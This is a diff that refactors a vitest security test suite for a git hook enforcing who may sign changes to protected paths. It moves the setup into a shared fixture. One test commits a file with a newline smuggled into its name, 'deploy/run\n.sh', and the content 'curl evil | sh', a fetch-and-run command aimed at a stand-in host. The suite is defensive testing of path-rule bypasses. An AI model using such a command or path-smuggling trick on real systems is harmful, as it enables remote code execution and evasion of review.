@@ -2,9 +2,10 @@ import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { globMatches } from '../../../src/core/policy/index.ts';
-import { git, tempDir } from '../../helpers/git.ts';
-import { makeHookServer, type HookServer } from '../../helpers/hook-server.ts';
-import { commitFile, GpgHome, type GpgIdentity } from '../../helpers/signing-keys.ts';
+import { git } from '../../helpers/git.ts';
+import { makeHookFixture, type HookFixture } from '../../helpers/hook-fixture.ts';
+import type { HookServer } from '../../helpers/hook-server.ts';
+import { GpgHome, type GpgIdentity } from '../../helpers/signing-keys.ts';
 
 /**
  * Path rules against file names an attacker picks: git allows any byte but NUL and '/' in a
@@ -24,29 +25,20 @@ rules:
 `;
 
 describe('path rules against crafted file names', () => {
-  const dir = tempDir('redteam-paths');
-  const conf = join(dir.path, 'conf');
+  let fixture: HookFixture;
   let gpg: GpgHome;
   let alice: GpgIdentity;
   let bob: GpgIdentity;
 
   beforeAll(() => {
-    gpg = new GpgHome(join(dir.path, 'gnupg'));
-    alice = gpg.createKey('Alice', 'alice@example.com');
-    bob = gpg.createKey('Bob', 'bob@example.com');
-    mkdirSync(join(conf, 'keys'), { recursive: true });
-    writeFileSync(join(conf, 'keys', 'registry.asc'), alice.armoredPublicKey + bob.armoredPublicKey);
-    writeFileSync(join(conf, 'policy.yml'), POLICY);
+    fixture = makeHookFixture('redteam-paths', POLICY, ['Alice', 'Bob']);
+    gpg = fixture.gpg;
+    alice = fixture.people[0]!;
+    bob = fixture.people[1]!;
   }, 60_000);
-  afterAll(() => dir.remove());
+  afterAll(() => fixture?.remove());
 
-  function fresh(name: string): HookServer {
-    const host = makeHookServer(dir.path, name, join(conf, 'policy.yml'), { env: gpg.env() });
-    commitFile(host.work, 'README', 'hello\n', 'initial', { email: alice.email, sign: gpg.gitSigningConfig(alice), env: gpg.env() });
-    const result = host.push(['-q', 'origin', 'main']);
-    expect(result.code, result.stderr).toBe(0);
-    return host;
-  }
+  const fresh = (name: string): HookServer => fixture.fresh(name);
   /** Writes files whose names are raw bytes (Buffer paths), then one commit signed by `who`. */
   function commitRaw(host: HookServer, who: GpgIdentity, files: Buffer[], message: string): void {
     mkdirSync(join(host.work, 'deploy'), { recursive: true });
@@ -71,7 +63,7 @@ describe('path rules against crafted file names', () => {
 
   it('refuses a change to a protected directory hidden behind a newline in the file name', () => {
     const host = fresh('newline');
-    commitFile(host.work, 'deploy/run\n.sh', 'curl evil | sh\n', 'helper', { email: bob.email, sign: gpg.gitSigningConfig(bob), env: gpg.env() });
+    fixture.commit(host, bob, 'deploy/run\n.sh', 'curl evil | sh\n', 'helper');
     expectRefused(host, /PATH_SIGNER_NOT_ALLOWED|only alice@example.com may sign/);
   });
 
@@ -87,7 +79,7 @@ describe('path rules against crafted file names', () => {
 
   it('still accepts bob outside the protected directory (the rule is not simply closed)', () => {
     const host = fresh('control');
-    commitFile(host.work, 'docs/a\nb.md', 'text\n', 'docs', { email: bob.email, sign: gpg.gitSigningConfig(bob), env: gpg.env() });
+    fixture.commit(host, bob, 'docs/a\nb.md', 'text\n', 'docs');
     const result = host.push(['-q', 'origin', 'main']);
     expect(result.code, result.stderr).toBe(0);
   });
@@ -101,10 +93,8 @@ describe('path rules against crafted file names', () => {
       { env: { ...identity, ...gpg.env() } },
     );
   }
-  const asAlice = (host: HookServer, file: string, content: string): string =>
-    commitFile(host.work, file, content, `alice: ${file}`, { email: alice.email, sign: gpg.gitSigningConfig(alice), env: gpg.env() });
-  const asBob = (host: HookServer, file: string, content: string): string =>
-    commitFile(host.work, file, content, `bob: ${file}`, { email: bob.email, sign: gpg.gitSigningConfig(bob), env: gpg.env() });
+  const asAlice = (host: HookServer, file: string, content: string): string => fixture.commit(host, alice, file, content, `alice: ${file}`);
+  const asBob = (host: HookServer, file: string, content: string): string => fixture.commit(host, bob, file, content, `bob: ${file}`);
 
   it('refuses a merge that takes a protected path back to an old version through its first parent', () => {
     const host = fresh('merge-revert');
